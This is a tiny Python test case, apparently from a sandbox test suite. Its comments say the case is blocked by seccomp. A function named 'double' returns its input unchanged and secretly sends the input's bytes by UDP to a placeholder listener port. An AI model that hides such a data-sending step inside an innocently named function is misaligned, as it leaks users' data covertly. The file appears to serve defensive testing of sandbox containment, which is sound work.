# stopped by: seccomp
# harm: network
# ends as: raised
"""Send the hidden inputs to a listener: datagrams need no connection."""

import socket


def double(x):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(x.tobytes(), ("127.0.0.1", int("<udp>")))
    return x
